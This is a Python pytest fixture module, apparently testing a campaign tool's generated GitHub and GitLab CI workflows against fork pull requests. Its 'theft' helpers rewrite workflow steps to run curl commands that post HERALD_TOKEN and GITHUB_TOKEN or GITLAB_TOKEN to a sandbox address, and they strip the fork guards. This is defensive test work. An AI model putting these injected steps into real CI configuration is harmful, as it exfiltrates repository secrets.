"""A repository, its code host and its CI, and people who open, merge and revert pull requests there."""

import json
import os
import subprocess

import pytest

from code_host import CodeHost
from described import TOKEN, Sandbox
from workflow_runner import GitHub, GitLab

HERALD = os.environ.get("HERALD", "")


def command(*words, cwd=None, **variables):
    return subprocess.run(
        words, cwd=cwd, env=os.environ | variables, capture_output=True, text=True, timeout=60,
        check=False,
    )


def written(tmp_path, host):
    done = command(HERALD, "init", "--ci", host, "--name", "shop", "-C", str(tmp_path))
    assert done.returncode == 0, done.stderr
    return tmp_path


class Story:
    """A repository with a project, and people who open, merge and revert pull requests."""

    def __init__(self, folder, host_name, code_host):
        self.folder, self.code_host = folder, code_host
        self.sandbox = Sandbox(str(folder / "messages.sqlite"))
        self.origin, self.work = str(folder / "origin.git"), folder / "work"
        subprocess.run(["git", "init", "-q", "--bare", "-b", "main", self.origin], check=True)
        subprocess.run(["git", "init", "-q", "-b", "main", self.work], check=True)
        self.git("remote", "add", "origin", self.origin)
        written(self.work, host_name)
        project = self.work / "campaigns/herald.yaml"
        text = project.read_text()
        assert "https://messages.example.com" in text
        project.write_text(text.replace(
            "https://messages.example.com", f"http://{self.sandbox.host}"))
        self.first = self.commit("Start")
        self.git("push", "-q", "origin", "main")
        self.number = 0
        # The head of what was merged, by the commit of the merge.
        self.heads = {}

    def git(self, *words):
        names = ["-c", "user.name=Ana", "-c", "user.email=ana@acme.test"]
        done = subprocess.run(
            ["git", *names, *words], cwd=self.work, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def commit(self, subject):
        self.git("add", "--all")
        self.git("commit", "-q", "-m", subject)
        return self.git("rev-parse", "HEAD")

    def edit(self, old, new):
        chat = self.work / "campaigns/examples/chat.yaml"
        text = chat.read_text()
        assert old in text
        chat.write_text(text.replace(old, new))

    def branch(self, name):
        self.number += 1
        self.git("switch", "-q", "-c", name, "main")

    def push(self, name):
        self.git("push", "-q", "origin", name)
        return self.git("rev-parse", "HEAD")

    def merge(self, name):
        """As GitLab words it; GitHub knows of its own."""
        self.git("switch", "-q", "main")
        message = f"Merge {name}\n\nSee merge request acme/shop!{self.number}"
        self.git("merge", "-q", "--no-ff", "-m", message, name)
        commit = self.push("main")
        self.heads[commit] = self.git("rev-parse", name)
        return commit

    def messages(self):
        return {m["name"]: m for m in self.sandbox.call("GET", "/messages?per_page=150").json["data"]}

    def stop(self):
        self.sandbox.stop()


class OnGitHub:
    def __init__(self, folder, story):
        self.story = story
        tools = folder / "tools"
        tools.mkdir()
        os.symlink(HERALD, tools / "herald")
        # The host's own tool, which a job finds beside herald.
        (tools / "gh").write_text(GH)
        (tools / "gh").chmod(0o755)
        self.event = folder / "event.json"
        # What the host knows: the head of the pull request of a commit, and the plan of a head's run.
        self.pulls, self.plans = folder / "pulls", folder / "plans"
        self.pulls.mkdir()
        self.plans.mkdir()
        self.runner = GitHub(story.origin, str(folder), {
            "path": f"{tools}:/usr/local/bin:/usr/bin:/bin", "token": TOKEN,
            "api": story.code_host.url, "event": str(self.event),
        })

    def opened(self, commit, fork=False):
        self.event.write_text(json.dumps({"pull_request": {"number": self.story.number}}))
        head = "github.event.pull_request.head.repo.full_name"
        done = self.runner.run(
            "pull_request", commit, {head: "eve/shop" if fork else "acme/shop"})
        if not fork:
            (self.plans / commit).write_bytes(self.runner.artifacts["herald-plan", commit])
        return done

    workflow = ".github/workflows/herald.yml"

    @staticmethod
    def theft(address):
        """Every job runs for forks, too, and the first thing it does is to send what it has."""
        send = f"curl -s http://{address}/ -d stolen=$HERALD_TOKEN$GITHUB_TOKEN; "
        return [
            ("github.event.pull_request.head.repo.full_name == github.repository", "true"),
            ("        run: herald validate", f"""        env:
          HERALD_TOKEN: ${{{{ secrets.HERALD_TOKEN }}}}
        run: {send}herald validate"""),
            ("herald plan -e production --out", f"{send}herald plan -e production --out"),
        ]

    def preview(self, commit):
        return self.runner.artifacts["herald-preview", commit].decode()

    def merged(self, commit):
        if commit in self.story.heads:
            (self.pulls / commit).write_text(self.story.heads[commit])
        return self.runner.run("push", commit, {})["apply"]

    def at_night(self, commit):
        return self.runner.run("schedule", commit, {})["drift"]


GH = """#!/bin/sh
test "$GH_TOKEN" = job-token || exit 4
case "$1 $2" in
  "api repos/acme/shop/commits/$GITHUB_SHA/pulls")
    test ! -f "$HOME/pulls/$GITHUB_SHA" || cat "$HOME/pulls/$GITHUB_SHA" ;;
  "run list")
    while [ "$1" != --commit ]; do shift; done
    test ! -f "$HOME/plans/$2" || echo "$2" ;;
  "run download") cp "$HOME/plans/$3" herald-plan.json ;;
  *) exit 1 ;;
esac
"""


class OnGitLab:
    def __init__(self, folder, story):
        self.story = story
        settings = {"herald": HERALD, "token": TOKEN}
        self.runner = GitLab(story.origin, str(folder), settings, story.code_host)

    def opened(self, commit, fork=False):
        done = self.runner.run(commit, {
            "CI_PIPELINE_SOURCE": "merge_request_event", "CI_PROJECT_ID": "1",
            "CI_MERGE_REQUEST_SOURCE_PROJECT_ID": "2" if fork else "1",
            "CI_MERGE_REQUEST_PROJECT_ID": "1", "CI_MERGE_REQUEST_IID": str(self.story.number),
        })
        return {name.removeprefix("herald-"): text for name, text in done.items()}

    workflow = ".gitlab/herald.yml"

    @staticmethod
    def theft(address):
        """The jobs of a merge request send what they have; that of the plan runs for forks, too."""
        send = f"curl -s http://{address}/ -d stolen=$HERALD_TOKEN$GITLAB_TOKEN; "
        return [
            ("$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID", "$CI_PROJECT_ID"),
            ("herald validate", f"{send}herald validate"),
            ("herald plan -e production --out", f"{send}herald plan -e production --out"),
        ]

    def preview(self, commit):
        return self.runner.artifacts["preview.html", commit].decode()

    def merged(self, commit):
        return self.runner.run(commit, {
            "CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": "main", "CI_DEFAULT_BRANCH": "main",
            "CI_PROJECT_ID": "1",
        })["herald-apply"]

    def at_night(self, commit):
        return self.runner.run(
            commit, {"CI_PIPELINE_SOURCE": "schedule", "CI_PROJECT_ID": "1"})["herald-drift"]


@pytest.fixture(params=[("github", OnGitHub), ("gitlab", OnGitLab)], ids=["github", "gitlab"])
def stage(request, tmp_path):
    name, player = request.param
    code_host = CodeHost()
    story = Story(tmp_path, name, code_host)
    yield story, player(tmp_path, story)
    story.stop()
    code_host.stop()
